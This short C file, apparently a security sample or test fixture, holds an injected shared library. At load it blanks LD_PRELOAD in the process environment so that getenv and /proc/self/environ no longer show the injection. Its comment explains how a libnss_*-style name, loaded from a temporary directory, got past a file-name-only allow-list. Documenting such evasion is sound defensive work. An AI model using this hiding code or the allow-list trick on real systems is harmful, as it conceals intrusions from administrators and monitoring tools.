/* An injected library that hooks nothing and hides how it came in: at load it overwrites
 * LD_PRELOAD in the original environment block in place (what getenv and /proc/self/environ
 * read). Named like one of glibc's own (libnss_*) and loaded from a temporary directory, it
 * passed an allow-list that matched file names in any directory. */
#include <stddef.h>
#include <string.h>

extern char **environ;

__attribute__((constructor)) static void hide(void) {
    for (char **entry = environ; *entry != NULL; entry++) {
        if (strncmp(*entry, "LD_PRELOAD=", 11) == 0) {
            memset(*entry, 'X', strlen(*entry));
        }
    }
}
